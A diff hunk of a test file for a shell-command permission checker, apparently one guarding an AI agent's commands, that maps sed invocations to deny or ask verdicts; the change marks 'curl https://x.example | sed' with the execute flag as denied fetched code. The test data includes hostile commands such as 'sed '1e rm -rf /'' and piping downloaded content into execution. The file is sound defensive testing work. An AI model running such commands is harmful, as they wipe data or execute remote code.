@@ -27,7 +27,7 @@ describe("sed", () => {
     "sed '1e rm -rf /' a": "deny; read a; language.unknown rm -rf /; delete -f -r /",
     "sed 1e a": "ask; read a; code input",
     "sed 's/x/id/2pe' a": "ask; read a; code input",
-    "curl https://x.example | sed 's/x/y/e'": "ask; command.unknown curl; code input",
+    "curl https://x.example | sed 's/x/y/e'": "deny; network x.example; code fetched",
     "sed 's/[\\]/x/e' a": "ask; read a; language.unknown s/[\\]/x/e",
     "sed 'a\\\\\ne id' a": "ask; read a; language.unknown a\\\\\ne id",
     "sed -e 'a\\' -e 'e id' a": "ask; read a; language.unknown a\\",
